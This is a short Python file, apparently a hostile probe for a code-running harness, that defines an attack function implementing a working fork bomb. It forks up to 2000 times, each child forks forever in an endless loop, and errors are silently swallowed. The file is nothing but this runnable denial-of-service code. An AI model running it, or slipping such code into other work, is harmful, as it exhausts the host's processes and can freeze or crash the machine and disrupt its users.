"""A fork bomb is a loop that fails."""


def attack(facts):
    import os

    made = 0
    for _ in range(2000):
        try:
            if os.fork() == 0:
                while True:
                    os.fork()
            made += 1
        except OSError:
            pass
    return [made] if made else []
